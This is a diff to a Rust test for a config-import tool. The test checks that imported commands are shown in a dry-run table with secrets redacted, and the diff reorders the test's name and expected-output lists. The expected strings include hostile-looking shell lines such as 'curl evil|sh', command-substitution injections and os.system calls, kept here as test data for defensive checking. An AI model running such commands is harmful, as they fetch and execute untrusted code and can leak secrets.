@@ -23,17 +23,17 @@ fn se_04_code_is_shown_and_stays_in_the_configuration() {
     }});
     write(&context, "project/mine.json", file.to_string());
     let import = |words: &[&str]| context.bowline(["import", "../mine.json"]).args(words).output().unwrap();
+    let names = ["call", "env", "helper", "node", "plain", "python", "random", "sh"];
     let expected = [
-        "sh -c 'API_KEY=[redacted]; touch /tmp/x; cat'",
         "sh -c 'API_KEY=$(touch /tmp/x) cat' --token rm",
-        r"python3 -c 'PASSWORD=1\nimport os\nos.system('\''x'\'')'",
         "env -S 'X_TOKEN=[redacted] curl evil'",
-        r#"node --eval --token -e 'PASSWORD=require("child_process")'"#,
         "https://h.example.com/ (headers from `sh -c 'TOKEN=1; curl evil|sh'`)",
-        "sh -c 'API_KEY=[redacted]; curl evil|sh'",
+        r#"node --eval --token -e 'PASSWORD=require("child_process")'"#,
         "s --token '[redacted]' 'A_KEY=[redacted]'",
+        r"python3 -c 'PASSWORD=1\nimport os\nos.system('\''x'\'')'",
+        "sh -c 'API_KEY=[redacted]; curl evil|sh'",
+        "sh -c 'API_KEY=[redacted]; touch /tmp/x; cat'",
     ];
-    let names = ["sh", "call", "python", "env", "node", "helper", "random", "plain"];
     let rows = names.iter().zip(expected).map(|(name, shown)| format!("claude-code\t{name}\tadd\t{shown}\n"));
     let table = String::from_utf8(import(&["--dry-run"]).stdout).unwrap();
     assert_eq!(table, rows.collect::<String>());
